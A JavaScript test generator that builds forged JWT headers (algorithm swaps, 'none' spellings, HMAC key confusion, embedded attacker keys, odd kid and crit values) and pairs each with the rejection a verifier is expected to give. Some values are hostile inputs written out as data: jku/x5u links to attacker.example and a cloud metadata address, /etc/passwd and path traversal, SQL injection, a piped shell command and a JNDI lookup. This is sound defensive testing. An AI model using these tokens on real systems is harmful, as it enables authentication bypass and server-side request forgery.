// The header says something else: alg, kid, crit, b64, keys of its own, names twice, no JSON.
import { createHmac } from "node:crypto";
import { b64, bytesOf, publicJwk, publicKeyDer, publicKeyObject, signers, signWith } from "../signers.mjs";
import { namesOf, verifiable } from "./model.mjs";
import { brokenObjects, duplicates, harmlessObjects } from "./on-json.mjs";
import { attackersKey } from "./on-signature.mjs";

/** Signed by the key's owner: what is refused is the header, not the signature. */
const signed = (signer, name, header, expected, options) => ({
  name,
  token: signer.token(header),
  expected,
  ...(options ? { options: { ...signer.options, ...options } } : {}),
});

/** The valid token with another header, which nobody signed. */
const unsigned = (signer, name, header, expected) => ({
  name,
  token: signer.with({ header: b64(typeof header === "string" ? header : JSON.stringify(header)) }),
  expected,
});

const asymmetric = verifiable.filter((alg) => !alg.startsWith("HS"));

/** Every registered name in place of alg, with the old signature, for three policies. */
export function* everyAlg(signer) {
  const policies = {
    default: {},
    "one algorithm": { algorithms: [signer.alg] },
    "all algorithms": { algorithms: verifiable },
  };
  for (const [policy, options] of Object.entries(policies)) {
    const allowed = options.algorithms ?? asymmetric;
    for (const alg of verifiable) {
      if (alg === signer.alg && allowed.includes(alg)) continue;
      const confuses = alg.startsWith("HS") && signer.kty !== "oct";
      const expected = !allowed.includes(alg)
        ? "alg_not_allowed"
        : confuses
          ? "jwks_mixed_symmetric"
          : namesOf(signer).includes(alg)
            ? "signature_invalid"
            : "key_alg_mismatch";
      const header = { ...signer.header, alg };
      yield { ...unsigned(signer, `${alg}, ${policy}`, header, expected), options };
      // Without kid every key is considered, and the set has only the one.
      const { kid, ...nameless } = header;
      yield { ...unsigned(signer, `${alg}, ${policy}, no kid`, nameless, expected), options };
    }
  }
  const spellings = [signer.alg.toLowerCase(), ` ${signer.alg}`, `${signer.alg} `, `${signer.alg}\0`, `${signer.alg},none`];
  const unknown = ["", "RS1", "HS1", "ES521", "PS1024", "SHA256", "RSA", "A256KW", "dir", "RSA-OAEP", "HMAC", "Ed25519ph", "X25519", "ECDSA", "ML-DSA", "ML-DSA-45", "HashML-DSA-44", "SLH-DSA-SHA2-128s", "__proto__", "constructor"];
  for (const alg of [...spellings, ...unknown]) {
    yield signed(signer, JSON.stringify(alg), { ...signer.header, alg }, "alg_unsupported");
  }
  for (const alg of namesOf(signer).filter((alg) => alg !== signer.alg)) {
    yield signed(signer, `${alg}, the other name, signed`, { ...signer.header, alg }, "valid");
    yield signed(signer, `${alg}, the other name, and one is allowed`, { ...signer.header, alg }, "alg_not_allowed", { algorithms: [signer.alg] });
  }
  for (const alg of [null, true, 0, 256, [], [signer.alg], {}, { name: signer.alg }]) {
    yield signed(signer, JSON.stringify(alg), { ...signer.header, alg }, "header_param_invalid");
  }
  const { alg, ...without } = signer.header;
  yield signed(signer, "no alg", without, "alg_missing");
  yield signed(signer, "Alg", { ...without, Alg: alg }, "alg_missing");
  yield signed(signer, "alg within jwk", { ...without, jwk: { alg } }, "alg_missing");
  yield signed(signer, "an empty header", {}, "alg_missing");
}

/** A legitimate signature of each other key here, by its own algorithm, under this one's name and kid. */
export function* othersSignatures(signer) {
  for (const other of signers) {
    if (other.key === signer.key) continue;
    const input = signer.valid.slice(0, signer.valid.lastIndexOf("."));
    const signature = other.sign(input);
    const fits = signature.length === signer.length;
    yield {
      name: other.alg,
      token: signer.with({ signature: b64(signature) }),
      expected: fits ? "signature_invalid" : "signature_length_invalid",
    };
  }
}

/** The public key's bytes, in every form that a careless verifier might hand to HMAC. */
export function* publicKeyAsSecret(signer) {
  if (signer.kty === "oct") return;
  const der = publicKeyDer(signer.privateJwk);
  const pem = `-----BEGIN PUBLIC KEY-----\n${der.toString("base64").replace(/.{1,64}/g, "$&\n")}-----END PUBLIC KEY-----\n`;
  const { n, x, y, pub } = signer.jwk;
  const pkcs1 = (format) => publicKeyObject(signer.privateJwk).export({ type: "pkcs1", format });
  const secrets = {
    PEM: pem,
    "PEM without the last line end": pem.trimEnd(),
    "PEM with CR LF": pem.replaceAll("\n", "\r\n"),
    "PEM without armour": pem.replace(/-----.*-----/g, "").trim(),
    "PEM in one line": pem.replaceAll("\n", ""),
    DER: der,
    "base64 of DER": der.toString("base64"),
    JWK: JSON.stringify(signer.jwk),
    "JWK without more": JSON.stringify(publicJwk(signer.privateJwk)),
    "JWK Set": signer.jwks,
    kid: signer.jwk.kid,
    nothing: "",
    "one zero": Buffer.alloc(1),
    ...(n
      ? {
          "PKCS #1 PEM": pkcs1("pem"),
          "PKCS #1 DER": pkcs1("der"),
          "n as bytes": bytesOf(n),
          "n with a zero in front": Buffer.concat([Buffer.alloc(1), bytesOf(n)]),
          "n as text": n,
          "e as bytes": bytesOf(signer.jwk.e),
        }
      : {}),
    ...(y
      ? {
          "x and y": Buffer.concat([bytesOf(x), bytesOf(y)]),
          "the point": Buffer.concat([Buffer.of(4), bytesOf(x), bytesOf(y)]),
        }
      : {}),
    ...(x ? { "x as bytes": bytesOf(x), "x as text": x } : {}),
    ...(pub ? { "pub as bytes": bytesOf(pub), "pub as text": pub } : {}),
  };
  // To a key of type AKP its alg belongs: without it there is none, though there is one that is asymmetric.
  const { alg: _, ...withoutAlg } = signer.jwk;
  const sets = { "": signer.jwks, ", key without alg": JSON.stringify({ keys: [withoutAlg] }) };
  for (const [name, secret] of Object.entries(secrets)) {
    for (const alg of ["HS256", "HS384", "HS512"]) {
      const input = `${b64(JSON.stringify({ ...signer.header, alg }))}.${signer.segments[1]}`;
      const mac = createHmac(`sha${alg.slice(2)}`, secret).update(input).digest("base64url");
      const token = `${input}.${mac}`;
      for (const [which, jwks] of Object.entries(sets)) {
        const title = `${alg}, ${name}${which}`;
        yield { name: title, token, jwks, expected: "alg_not_allowed" };
        yield { name: `${title}, HS allowed`, token, jwks, options: { algorithms: verifiable }, expected: "jwks_mixed_symmetric" };
        yield { name: `${title}, only HS allowed`, token, jwks, options: { algorithms: [alg] }, expected: "jwks_mixed_symmetric" };
      }
    }
  }
}

/** Not signed at all. Only "none" has a name of its own; every other spelling is just unknown. */
export function* none(signer) {
  const spellings = ["n", "N"].flatMap((a) => ["o", "O"].flatMap((b) => ["n", "N"].flatMap((c) => ["e", "E"].map((d) => a + b + c + d))));
  const others = [" none", "none ", "none\t", "none\0", "\0none", "non", "nonee", "null", "undefined", "nil", "unsecured", "\uff4eone", "n\u043ene", "none\u200b"];
  for (const alg of [...spellings, ...others]) {
    const expected = alg === "none" ? "alg_none" : "alg_unsupported";
    const name = JSON.stringify(alg);
    for (const header of [{ ...signer.header, alg }, { alg }, { typ: "JWT", alg }]) {
      const kind = Object.keys(header).join(" ");
      const h = b64(JSON.stringify(header));
      const [, p, s] = signer.segments;
      yield { name: `${name}, ${kind}, no signature`, token: `${h}.${p}.`, expected };
      yield { name: `${name}, ${kind}, old signature`, token: `${h}.${p}.${s}`, expected };
      yield { name: `${name}, ${kind}, a byte for a signature`, token: `${h}.${p}.AA`, expected };
      yield { name: `${name}, ${kind}, two segments`, token: `${h}.${p}`, expected: "token_malformed" };
      yield { ...signed(signer, `${name}, ${kind}, signed`, header, expected) };
    }
  }
  yield signed(signer, "none, escaped", `{"alg":"\\u006eone","kid":"k1"}`, "alg_none");
  yield { ...signed(signer, "the caller allows none", { alg: "none" }, "option_invalid"), options: { algorithms: ["none"] } };
}

/** A key, or where to find one, in the header; signed by the attacker, whose key it is. */
export function* embeddedKeys(signer) {
  const attacker = attackersKey(signer);
  const jwk = { ...publicJwk(attacker), kid: "k1", alg: signer.alg, use: "sig" };
  const certificate = Buffer.from(JSON.stringify(jwk)).toString("base64");
  const places = {
    jwk: { jwk },
    "jwk without more": { jwk: publicJwk(attacker) },
    "jwk with its private half": { jwk: attacker },
    "jwk, symmetric": { jwk: { kty: "oct", k: "" } },
    "jwk, empty": { jwk: {} },
    jku: { jku: "https://attacker.example/jwks.json" },
    "jku of the issuer": { jku: "https://id.example@attacker.example/.well-known/jwks.json" },
    "jku, file": { jku: "file:///dev/stdin" },
    "jku, data": { jku: `data:application/json,${JSON.stringify({ keys: [publicJwk(attacker)] })}` },
    "jku, cloud": { jku: "http://169.254.169.254/latest/meta-data" },
    "jku, traversal": { jku: "../../../../../../proc/self/environ" },
    x5u: { x5u: "https://attacker.example/chain.pem" },
    "x5u, ftp": { x5u: "ftp://attacker.example/chain.pem" },
    "x5u, local": { x5u: "http://[::1]:22/" },
    x5c: { x5c: [certificate] },
    "x5c, empty": { x5c: [] },
    "x5c, no base64": { x5c: ["-----BEGIN CERTIFICATE-----"] },
    x5t: { x5t: "AAAAAAAAAAAAAAAAAAAAAAAAAAA" },
    "x5t#S256": { "x5t#S256": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" },
    all: { jwk, jku: "https://attacker.example/jwks.json", x5u: "https://attacker.example/chain.pem", x5c: [certificate] },
  };
  const kids = {
    "our kid": [{ kid: "k1" }, "signature_invalid"],
    "no kid": [{ kid: undefined }, "signature_invalid"],
    "a kid of its own": [{ kid: "attacker" }, "no_matching_key"],
  };
  for (const [place, members] of Object.entries(places)) {
    for (const [kid, [member, expected]] of Object.entries(kids)) {
      const input = [{ ...signer.header, ...member, ...members }, signer.claims].map((part) => b64(JSON.stringify(part))).join(".");
      const signature = signWith(attacker, signer.alg, input);
      yield { name: `${place}, ${kid}`, token: `${input}.${b64(signature)}`, expected };
    }
    yield signed(signer, `${place}, signed by the owner`, { ...signer.header, ...members }, "valid");
  }
}

/** Registered parameters of the wrong type, whoever signed. */
export function* wrongTypes(signer) {
  const values = [null, true, false, 0, 1, 1.5, "text", [], ["text"], [1], [null], {}, { a: 1 }];
  const isText = (value) => typeof value === "string";
  const right = {
    jwk: (value) => value !== null && typeof value === "object" && !Array.isArray(value),
    x5c: (value) => Array.isArray(value) && value.every(isText),
  };
  for (const name of ["kid", "typ", "cty", "jku", "x5u", "x5t", "x5t#S256", "jwk", "x5c"]) {
    for (const value of values.filter((value) => !(right[name] ?? isText)(value))) {
      const header = { ...signer.header, [name]: value };
      yield signed(signer, `${name}: ${JSON.stringify(value)}`, header, "header_param_invalid");
      yield unsigned(signer, `${name}: ${JSON.stringify(value)}, unsigned`, header, "header_param_invalid");
    }
  }
}

/** The key's name is data: no path, no query, no property, no C string. */
export function* kid(signer) {
  const strange = {
    "a path": "../../../../../../dev/null",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a file": "file:///etc/passwd",
    "a URL": "https://attacker.example/key",
    SQL: "k1' UNION SELECT 'secret' --",
    "a command": "k1|/usr/bin/touch /tmp/x",
    "a template": "${jndi:ldap://attacker.example}",
    "NUL behind": "k1\0",
    "NUL and more": "k1\0../../x",
    "NUL in front": "\0k1",
    "a space behind": "k1 ",
    "a space in front": " k1",
    "a line end": "k1\n",
    upper: "K1",
    longer: "k11",
    shorter: "k",
    empty: "",
    index: "0",
    all: "*",
    __proto__: "__proto__",
    constructor: "constructor",
    toString: "toString",
    fullwidth: "\uff4b1",
    combining: "k1\u0301",
    "byte-order mark": "\ufeffk1",
    "4 KiB": "k1".repeat(2048),
  };
  for (const [name, kid] of Object.entries(strange)) {
    yield signed(signer, name, { ...signer.header, kid }, "no_matching_key");
    yield unsigned(signer, `${name}, unsigned`, { ...signer.header, kid }, "no_matching_key");
  }
  const { kid: _, ...nameless } = signer.header;
  yield signed(signer, "none, and the set has one key", nameless, "valid");
  yield signed(signer, "Kid", { ...nameless, Kid: "other" }, "valid");
  yield signed(signer, "escaped", `{"alg":"${signer.alg}","\\u006bid":"\\u006b1"}`, "valid");
  yield signed(signer, "8 KiB", { ...signer.header, kid: "x".repeat(8192) }, "header_too_large");
  if (signer.alg === "RS256" || signer.alg === "HS256") {
    const megabyte = { ...signer.header, kid: "x".repeat(1 << 20) };
    yield signed(signer, "1 MiB", megabyte, "token_too_large");
    yield signed(signer, "1 MiB, in a token that the caller allows", megabyte, "header_too_large", { maxTokenSize: 4 << 20 });
  }
}

// RFC 7515, 7516 and 7518; crit must not list them.
const registeredParameters = [
  ..."alg jku jwk kid x5u x5c x5t x5t#S256 typ cty crit".split(" "),
  ..."enc zip epk apu apv iv tag p2s p2c".split(" "),
];

export function* crit(signer) {
  const invalid = (name, members) => signed(signer, name, { ...signer.header, ...members }, "crit_invalid");
  const unsupported = (name, members, options) => signed(signer, name, { ...signer.header, ...members }, "crit_unsupported", options);
  for (const value of [null, true, 0, "", "exp", {}, { 0: "exp" }, [], [1], [null], [true], [["exp"]], [{}], ["exp", 1]]) {
    yield invalid(JSON.stringify(value), { exp: 1, crit: value });
    yield unsigned(signer, `${JSON.stringify(value)}, unsigned`, { ...signer.header, exp: 1, crit: value }, "crit_invalid");
  }
  for (const name of registeredParameters) {
    yield invalid(`registered: ${name}`, { crit: [name] });
    yield invalid(`registered behind another: ${name}`, { exp: 1, crit: ["exp", name] });
  }
  yield invalid("twice", { exp: 1, crit: ["exp", "exp"] });
  yield invalid("twice, b64", { b64: true, crit: ["b64", "b64"] });
  yield invalid("twice, apart", { exp: 1, x: 1, crit: ["exp", "x", "exp"] });
  for (const name of ["exp", "b64", "x", "", "__proto__", "constructor", "toString", "hasOwnProperty", "Exp"]) {
    yield invalid(`absent: ${name}`, { crit: [name] });
    yield signed(signer, `absent, though the caller knows it: ${name}`, { ...signer.header, crit: [name] }, "crit_invalid", { crit: [name] });
  }
  for (const name of ["exp", "x", "", "http://example.invalid/UNDEFINED", "constructor", "__proto__", "b64 ", "B64"]) {
    const members = Object.defineProperty({}, name, { value: 1, enumerable: true });
    const header = `{"alg":"${signer.alg}","kid":"k1","crit":[${JSON.stringify(name)}],${JSON.stringify(name)}:1}`;
    yield signed(signer, `unknown: ${name}`, header, "crit_unsupported");
    yield signed(signer, `known to the caller: ${name}`, header, "valid", { crit: [name] });
    yield signed(signer, `the caller knows another than ${name}`, header, "crit_unsupported", { crit: [`${name}x`] });
    yield unsupported(`one of two: ${name}`, { ...members, y: 1, crit: ["y"] }, { crit: [name] });
  }
  yield unsupported("three hundred", { ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`x${i}`, 1])), crit: Array.from({ length: 300 }, (_, i) => `x${i}`) });
  yield signed(signer, "b64 true", { ...signer.header, b64: true, crit: ["b64"] }, "valid");
  yield signed(signer, "crit known to the caller and not there", signer.header, "valid", { crit: ["x"] });
}

/** RFC 7797 section 7: a JWT has no unencoded payload. */
export function* unencodedPayload(signer) {
  const header = (members) => ({ ...signer.header, ...members });
  yield signed(signer, "false, critical", header({ b64: false, crit: ["b64"] }), "b64_not_allowed");
  yield signed(signer, "false, not critical", header({ b64: false }), "b64_not_allowed");
  yield signed(signer, "false, known to the caller", header({ b64: false, crit: ["b64"] }), "b64_not_allowed", { crit: ["b64"] });
  yield unsigned(signer, "false, unsigned", header({ b64: false, crit: ["b64"] }), "b64_not_allowed");
  yield signed(signer, "true", header({ b64: true }), "valid");
  for (const b64 of [null, 0, 1, "", "false", "true", [], [false], {}]) {
    yield signed(signer, `${JSON.stringify(b64)}, critical`, header({ b64, crit: ["b64"] }), "header_param_invalid");
    yield signed(signer, `${JSON.stringify(b64)}, not critical`, header({ b64 }), "header_param_invalid");
  }
  const h = b64(JSON.stringify(header({ b64: false, crit: ["b64"] })));
  const raw = (name, payload, expected) => ({ name, token: `${h}.${payload}.${b64(signer.sign(`${h}.${payload}`))}`, expected });
  yield raw("a payload as it is", JSON.stringify(signer.claims), "token_malformed");
  yield raw("a payload of letters", "abcd", "b64_not_allowed");
  yield raw("detached", "", "b64_not_allowed");
}

/** cty JWT: the claims are another token's. */
export function* nested(signer) {
  for (const cty of ["JWT", "jwt", "Jwt", "jWT"]) {
    const header = { ...signer.header, cty };
    yield signed(signer, cty, header, "nested_unsupported");
    yield { name: `${cty}, around a token`, token: signer.token(header, signer.valid), expected: "nested_unsupported" };
    yield unsigned(signer, `${cty}, unsigned`, header, "nested_unsupported");
  }
  yield { name: "a token in a token", token: signer.token(signer.header, signer.valid), expected: "payload_json_invalid" };
  yield signed(signer, "cty of something else", { ...signer.header, cty: "JSON" }, "valid");
}

/** Names that stand twice, and text that is not one strict JSON object. */
export function* headerJson(signer) {
  const members = `"alg":"${signer.alg}","kid":"k1"`;
  for (const [name, text] of duplicates(members, ["alg", `"${signer.alg}"`], ["kid", '"k1"'], ["alg", '"none"'], ["crit", "[]"], ["b64", "true"])) {
    yield signed(signer, name, text, "header_duplicate_member");
    yield unsigned(signer, `${name}, unsigned`, text, "header_duplicate_member");
  }
  for (const [name, bytes] of brokenObjects(members)) yield signed(signer, name, bytes, "header_json_invalid");
  for (const [name, bytes] of harmlessObjects(members)) yield signed(signer, name, bytes, "valid");
  const nestedIn = (open, close, depth) => `{${members},"x":${open.repeat(depth)}${open === "[" ? "" : "1"}${close.repeat(depth)}}`;
  yield signed(signer, "8 arrays and objects deep", nestedIn("[", "]", 7), "valid");
  yield signed(signer, "9 arrays deep", nestedIn("[", "]", 8), "header_too_deep");
  yield signed(signer, "9 objects deep", nestedIn('{"x":', "}", 8), "header_too_deep");
  yield signed(signer, "4,000 arrays deep", nestedIn("[", "]", 4000), "header_too_deep");
  yield signed(signer, "4,000 arrays, never closed", `{"x":${"[".repeat(4000)}`, "header_too_deep");
  yield signed(signer, "1,300 objects deep", nestedIn('{"x":', "}", 1300), "header_too_deep");
  yield signed(signer, "10,000 arrays deep", nestedIn("[", "]", 10_000), "header_too_large");
  yield signed(signer, "10,000 arrays, never closed", "[".repeat(10_000), "header_too_large");
  yield signed(signer, "8 KiB", `{${members},"x":"${"x".repeat(8192 - members.length - 9)}"}`, "valid");
  yield signed(signer, "8 KiB and a byte", `{${members},"x":"${"x".repeat(8193 - members.length - 9)}"}`, "header_too_large");
}
